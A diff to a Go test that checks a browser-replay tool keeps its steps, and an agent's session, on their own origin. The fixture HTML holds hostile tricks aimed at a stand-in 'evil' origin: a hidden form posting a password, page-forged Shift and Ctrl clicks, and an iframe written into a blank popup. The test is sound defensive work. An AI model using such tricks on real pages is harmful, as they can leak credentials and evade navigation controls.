@@ -35,7 +35,8 @@ func otherOrigin(t *testing.T) (*httptest.Server, *atomic.Int64) {
 // escapes a relative path, a redirect, a link, a script and a form that
 // go to another origin, the same in a new tab or window (also from a
 // page that undoes any blocker in its own world), a frame the page
-// embeds from there and a form aimed at a frame. Each stops with
+// embeds from there, a form aimed at a frame, and a click the page makes
+// with Shift or Ctrl (a new window with no opener). Each stops with
 // out_of_origin (a frame stays empty), and the other origin never hears
 // a request. An agent's session is held the same way.
 func TestReplaysStayOnTheirOrigin(t *testing.T) {
@@ -63,7 +64,12 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 			fmt.Fprintf(w, `<!doctype html><script>window.addEventListener("click", e => e.stopPropagation(), true)</script>
 <main><h1>Home</h1><a href="%[1]s/swallowed" target="_blank">Partner offers</a>
 <form id="f" action="%[1]s/submitted" method="post" target="_blank"><input type="hidden" name="pw" value="hunter2"></form>
-<span role="button" tabindex="0" onmousedown="document.getElementById('f').submit()">Send it</span></main>`, evil.URL)
+<span role="button" tabindex="0" onmousedown="document.getElementById('f').submit()">Send it</span>
+<a id="plain" href="%[1]s/modified">Plain partner</a>
+<span role="button" tabindex="0" onmousedown="document.getElementById('plain').dispatchEvent(new MouseEvent('click', {shiftKey: true, bubbles: true, cancelable: true}))">Shift it</span>
+<span role="button" tabindex="0" onmousedown="document.getElementById('plain').dispatchEvent(new MouseEvent('click', {ctrlKey: true, bubbles: true, cancelable: true}))">Control it</span>
+<span role="button" tabindex="0" onmousedown="window.open('').document.write('<iframe src=%[1]s/framed-popup></iframe>')">Frame it</span>
+</main>`, evil.URL)
 		default:
 			http.NotFound(w, r)
 		}
@@ -73,6 +79,9 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 	n := start(t, nil, node.Browser...)
 
 	open := `{id: open, kind: deterministic, tool: navigate, args: {url: /}}`
+	undone := func(button string) string {
+		return `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: ` + button + `}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`
+	}
 	cases := []struct {
 		name, steps string
 		params      map[string]string
@@ -92,6 +101,9 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 		{"popup", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Pop up}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"a page that stops clicks", `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner offers}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"form.submit() into a new tab", `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Send it}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
+		{"a click with Shift, made by the page", undone("Shift it"), nil},
+		{"a click with Control, made by the page", undone("Control it"), nil},
+		{"a frame written into an empty popup", undone("Frame it"), nil},
 		{"form in a new tab", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Open in a tab}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"form into a frame", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Frame password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send to the frame}}`, map[string]string{"page": "hunter2"}},
 		{"form", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send}}`, map[string]string{"page": "hunter2"}},
@@ -106,7 +118,7 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 		}
 		p := decodeOrFail(t, "name: escape\nintent: go somewhere\nparams: "+params+"\nsteps: ["+c.steps+"]\nverify: [{url_contains: /}]\n")
 		res := browserReplay(t, n, p, home.URL, c.params)
-		if (c.name == "backslash" || c.name == "form into a frame") && res.Outcome == schema.OutcomeSuccess {
+		if (c.name == "backslash" || c.name == "form into a frame" || c.name == "a frame written into an empty popup") && res.Outcome == schema.OutcomeSuccess {
 			continue // and the other origin heard nothing: checked below
 		}
 		if res.Outcome == schema.OutcomeSuccess || !errors.Is(res.Reason, schema.ErrOutOfOrigin) {
